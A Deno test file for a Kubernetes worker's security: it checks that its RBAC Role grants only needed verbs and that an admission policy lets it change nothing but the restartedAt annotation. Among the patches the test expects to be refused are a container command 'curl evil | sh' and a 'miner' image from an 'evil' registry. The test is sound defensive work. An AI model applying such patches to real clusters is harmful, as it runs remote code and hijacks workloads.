/**
 * The shipped RBAC and admission policy on the real API server: the worker's
 * ServiceAccount can do its job with exactly k8s/rbac/, every verb in the Role
 * is needed, and k8s/admission/ lets it change nothing but restartedAt.
 */

import { assertEquals, assertMatch } from "../helpers/assert.ts";
import {
  type Capabilities,
  capabilities,
  waitForAccess,
  workerApi,
} from "../helpers/capabilities.ts";
import { deploymentManifest, eventually, openCluster, WORKER_SA } from "../helpers/cluster.ts";
import { createKubeClient, requireControlPlane } from "../helpers/control_plane.ts";
import type { KubeApi } from "../../worker/kube/api.ts";
import { KubeApiError } from "../../worker/kube/errors.ts";
import type { Deployment } from "../../worker/kube/objects.ts";
import { rolloutTriggeredEvent } from "../../worker/kube/events.ts";
import { ROOT } from "../helpers/program.ts";
import { parseAllDocuments } from "yaml";

const info = requireControlPlane("the RBAC and admission tests");
const options = { ignore: info === undefined, sanitizeOps: false, sanitizeResources: false };
const VERBS = ["get", "list", "watch", "patch"];

Deno.test({
  name:
    "security: the shipped namespaced RBAC is enough for the worker, and every verb in it is needed",
  ...options,
  async fn(t) {
    const cluster = openCluster(info!);
    try {
      const ns = await cluster.namespace("krt-rbac");
      await cluster.applyManifest("k8s/admission/policy.yaml");
      const api = await workerApi(cluster);

      await t.step("without any RBAC the worker can do nothing", async () => {
        const res = await api.listDeployments(ns).then(
          () => 200,
          (e) => (e as { status: number }).status,
        );
        assertEquals(res, 403);
      });

      await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
      for (const verb of VERBS) await waitForAccess(cluster, ns, verb, true);

      await t.step("with exactly the shipped Role every capability works", async () => {
        assertEquals(await capabilities(cluster, api, ns), {
          watchList: "ok",
          list: "ok",
          watch: "ok",
          patch: "ok",
          get: "ok",
        });
      });

      await t.step(
        "capabilities() calls only a 403 forbidden: a stall is a timeout, another failure keeps its status",
        async () => {
          const timeoutMs = 1500;
          const stalled: KubeApi = {
            ...api,
            // Answers, but only after capabilities() has given up on it.
            listDeployments: (namespace, options) =>
              new Promise((r) => setTimeout(r, 2 * timeoutMs)).then(() =>
                api.listDeployments(namespace, options)
              ),
          };
          assertEquals(await capabilities(cluster, stalled, ns, { timeoutMs }), {
            list: "timeout",
            watch: "untested",
            watchList: "ok",
            patch: "ok",
            get: "ok",
          });
          const silent: KubeApi = {
            ...api,
            // A watch that never delivers and never fails, until it is stopped.
            async *watchDeployments(_namespace, { signal }) {
              await new Promise((r) => signal.addEventListener("abort", r, { once: true }));
              yield* [];
            },
          };
          assertEquals(await capabilities(cluster, silent, ns, { timeoutMs }), {
            list: "ok",
            watch: "timeout",
            watchList: "timeout",
            patch: "ok",
            get: "ok",
          });
          const failing: KubeApi = {
            ...api,
            listDeployments: () => Promise.reject(new KubeApiError(500, "InternalError", "list")),
            patchDeployment: () => Promise.reject(new KubeApiError(500, "InternalError", "patch")),
          };
          assertEquals(await capabilities(cluster, failing, ns, { timeoutMs }), {
            list: "error 500",
            watch: "untested",
            watchList: "ok",
            patch: "error 500",
            get: "untested",
          });
        },
      );

      // Without each verb, exactly the capabilities that need it break; the
      // re-read (get) is only reached through a patch, so it is untested
      // without patch, and watch is untested when the inventory cannot list.
      // The streaming list is authorized as a watch (v1.34): it works without
      // list, which the Role keeps for servers without it and for the fallback.
      const without: Record<string, Capabilities> = {
        list: { list: "forbidden", watch: "untested", watchList: "ok", patch: "ok", get: "ok" },
        watch: { list: "ok", watch: "forbidden", watchList: "forbidden", patch: "ok", get: "ok" },
        patch: { list: "ok", watch: "ok", watchList: "ok", patch: "forbidden", get: "untested" },
        get: { list: "ok", watch: "ok", watchList: "ok", patch: "ok", get: "forbidden" },
      };
      for (const verb of VERBS) {
        await t.step(
          `removing "${verb}" breaks exactly the capabilities that need it`,
          async () => {
            await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", {
              namespace: ns,
              edit: (doc) => {
                if (doc.kind === "Role") {
                  doc.rules[0].verbs = doc.rules[0].verbs.filter((v: string) => v !== verb);
                }
              },
            });
            await waitForAccess(cluster, ns, verb, false);
            assertEquals(await capabilities(cluster, api, ns), without[verb], `without ${verb}`);
            await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
            await waitForAccess(cluster, ns, verb, true);
          },
        );
      }

      await t.step(
        "create on events records the RolloutTriggered Event under the admission policy; without it the create is refused",
        async () => {
          await cluster.createDeployment(
            deploymentManifest(ns, "audited", [{ image: "ghcr.io/acme/app:dev" }]),
          );
          const d = await cluster.getDeployment(ns, "audited");
          const event = rolloutTriggeredEvent(
            d as Deployment,
            {
              id: crypto.randomUUID(),
              time: new Date().toISOString(),
              image: "ghcr.io/acme/app",
              tags: ["dev"],
            },
            "rbac",
            new Date(),
          );
          await api.createEvent(ns, event);
          await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", {
            namespace: ns,
            edit: (doc) => {
              if (doc.kind === "Role") doc.rules = doc.rules.slice(0, 1);
            },
          });
          const refused = await eventually(
            "RBAC to refuse creating events",
            () => api.createEvent(ns, event).then(() => undefined, (e) => e as KubeApiError),
            30_000,
          );
          assertEquals([refused.status, refused.reason], [403, "Forbidden"]);
          await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
          await eventually(
            "RBAC to allow creating events again",
            () => api.createEvent(ns, event).then(() => true, () => undefined),
            30_000,
          );
        },
      );

      await t.step("the cluster-wide RBAC grants exactly the namespaced Role's rules", async () => {
        const rules = async (path: string, kind: string) =>
          parseAllDocuments(await Deno.readTextFile(`${ROOT}${path}`))
            .map((doc) => doc.toJS()).find((doc) => doc?.kind === kind).rules;
        assertEquals(
          await rules("k8s/rbac/cluster-wide/rbac.yaml", "ClusterRole"),
          await rules("k8s/rbac/namespaced/rbac.yaml", "Role"),
        );
      });

      await t.step(
        "the worker cannot read secrets or pods, nor touch Deployments outside its namespaces",
        async () => {
          const other = await cluster.namespace("krt-rbac-other");
          const token = await cluster.admin.serviceAccountToken(
            WORKER_SA.namespace,
            WORKER_SA.name,
            600,
          );
          const asWorker = createKubeClient({ server: info!.server, caPem: info!.caPem, token });
          try {
            for (
              const path of [
                `/api/v1/namespaces/${ns}/secrets`,
                `/api/v1/namespaces/${ns}/pods`,
                `/api/v1/namespaces/${ns}/events`,
                `/apis/apps/v1/namespaces/${other}/deployments`,
                "/apis/apps/v1/deployments",
              ]
            ) {
              assertEquals((await asWorker.request("GET", path)).status, 403, path);
            }
          } finally {
            asWorker.close();
          }
        },
      );
    } finally {
      await cluster.cleanup();
    }
  },
});

Deno.test({
  name:
    "security: the admission policy lets the worker set restartedAt and nothing else; admin is unaffected",
  ...options,
  async fn(t) {
    const cluster = openCluster(info!);
    try {
      const ns = await cluster.namespace("krt-guard");
      await cluster.applyManifest("k8s/rbac/namespaced/rbac.yaml", { namespace: ns });
      await cluster.applyManifest("k8s/admission/policy.yaml");
      const token = await (async () => {
        await cluster.workerKubeconfig();
        return await cluster.admin.serviceAccountToken(WORKER_SA.namespace, WORKER_SA.name, 600);
      })();
      const asWorker = createKubeClient({ server: info!.server, caPem: info!.caPem, token });
      const smp = "application/strategic-merge-patch+json";
      const path = (name: string) => `/apis/apps/v1/namespaces/${ns}/deployments/${name}`;
      try {
        await waitForAccess(cluster, ns, "patch", true);
        // Wait until the policy is enforced, using a throwaway Deployment.
        await cluster.createDeployment(
          deploymentManifest(ns, "probe", [{ name: "app", image: "ghcr.io/acme/app:dev" }]),
        );
        await eventually("the admission policy to be enforced", async () => {
          const res = await asWorker.request(
            "PATCH",
            path("probe"),
            { spec: { replicas: 3 } },
            smp,
          );
          return res.status === 422 ? true : undefined;
        }, 20_000);

        await cluster.createDeployment(
          deploymentManifest(ns, "target", [{ name: "app", image: "ghcr.io/acme/app:dev" }]),
        );
        const forbidden: [string, unknown][] = [
          ["an image", {
            spec: {
              template: {
                spec: { containers: [{ name: "app", image: "ghcr.io/evil/miner:latest" }] },
              },
            },
          }],
          ["replicas", { spec: { replicas: 5 } }],
          ["a Deployment label", { metadata: { labels: { owner: "mallory" } } }],
          ["a pod template label", {
            spec: { template: { metadata: { labels: { extra: "x" } } } },
          }],
          ["a command", {
            spec: {
              template: {
                spec: { containers: [{ name: "app", command: ["sh", "-c", "curl evil | sh"] }] },
              },
            },
          }],
          ["another pod template annotation", {
            spec: {
              template: { metadata: { annotations: { "sidecar.istio.io/inject": "false" } } },
            },
          }],
          ["a Deployment annotation", { metadata: { annotations: { note: "x" } } }],
          ["paused", { spec: { paused: true } }],
          ["restartedAt together with an image", {
            spec: {
              template: {
                metadata: {
                  annotations: { "kubectl.kubernetes.io/restartedAt": "2026-01-01T00:00:00Z" },
                },
                spec: { containers: [{ name: "app", image: "ghcr.io/evil/x:1" }] },
              },
            },
          }],
        ];
        for (const [what, patch] of forbidden) {
          await t.step(`the worker may not change ${what}`, async () => {
            const before = await cluster.getDeployment(ns, "target");
            const res = await asWorker.request("PATCH", path("target"), patch, smp);
            assertEquals(res.status, 422);
            assertMatch(JSON.stringify(res.json), /ValidatingAdmissionPolicy/);
            assertEquals(
              (await cluster.getDeployment(ns, "target")).metadata.resourceVersion,
              before.metadata.resourceVersion,
            );
          });
        }
        await t.step("the worker may not scale, create or delete Deployments", async () => {
          assertEquals(
            (await asWorker.request(
              "PATCH",
              `${path("target")}/scale`,
              { spec: { replicas: 9 } },
              "application/merge-patch+json",
            )).status,
            403,
          );
          assertEquals((await asWorker.request("DELETE", path("target"))).status, 403);
          assertEquals(
            (await asWorker.request(
              "POST",
              `/apis/apps/v1/namespaces/${ns}/deployments`,
              deploymentManifest(ns, "new", [{ image: "x/y:z" }]),
            )).status,
            403,
          );
        });
        await t.step(
          "the worker's restart patch is admitted and changes only restartedAt",
          async () => {
            const before = await cluster.getDeployment(ns, "target");
            const res = await asWorker.request("PATCH", path("target"), {
              spec: {
                template: {
                  metadata: {
                    annotations: { "kubectl.kubernetes.io/restartedAt": "2026-11-21T20:00:00Z" },
                  },
                },
              },
            }, smp);
            assertEquals(res.status, 200);
            const after = await cluster.getDeployment(ns, "target");
            assertEquals(after.spec.template.metadata.annotations, {
              "kubectl.kubernetes.io/restartedAt": "2026-11-21T20:00:00Z",
            });
            assertEquals(after.metadata.generation, before.metadata.generation + 1);
          },
        );
        await t.step("admin is not affected by the policy", async () => {
          for (const [what, patch] of forbidden) {
            const res = await cluster.admin.request("PATCH", path("target"), patch, smp);
            assertEquals(res.status, 200, what);
          }
        });
      } finally {
        asWorker.close();
      }
    } finally {
      await cluster.cleanup();
    }
  },
});
